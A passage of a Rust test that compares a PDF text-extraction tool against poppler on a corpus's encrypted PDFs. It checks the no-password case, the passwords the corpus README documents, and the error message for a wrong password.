    let grants = [Grant::read_only(dir.clone())];
    // Every password the corpus README names.
    let passwords = ["asdfzxcv", "foo", "bar", "openpassword", "password", "test"];
    let (mut encrypted, mut without_password) = (0, 0);
    for file in files_with(&dir, &["pdf"]) {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(&file).unwrap();
        if !bytes.windows(8).any(|w| w == b"/Encrypt") {
            continue;
        }
        encrypted += 1;
        let ours = pdf(&fx, "text", json!({"path": file}), &grants);
        let needs_password = match poppler_words(&file, None) {
            Some(expected) => {
                let out = ours.unwrap_or_else(|e| panic!("{name} opens in poppler without a password: {e}"));
                assert_eq!(tool_words(&out), expected, "{name}");
                without_password += 1;
                false
            }
            None => {
                let err = ours.expect_err(&name).to_string();
                assert!(err.contains(&name) && err.contains("pass its password"), "{err}");
                true
            }
        };
        for password in passwords {
            let Some(expected) = poppler_words(&file, Some(password)) else {
                continue;
            };
            let out = pdf(&fx, "text", json!({"path": file, "password": password}), &grants)
                .unwrap_or_else(|e| panic!("{name} with {password}: {e}"));
            assert_eq!(tool_words(&out), expected, "{name} with {password}");
        }
        if needs_password {
            let err = pdf(&fx, "text", json!({"path": file, "password": "not-it"}), &grants)
                .expect_err(&name)
                .to_string();
            assert!(err.contains("the password given does not open it"), "{err}");
        }
    }
    eprintln!("{encrypted} encrypted corpus PDFs, {without_password} open without a password as in poppler");
    assert!(
        encrypted >= 20 && without_password >= 12,
        "{encrypted}, {without_password}"
    );
}
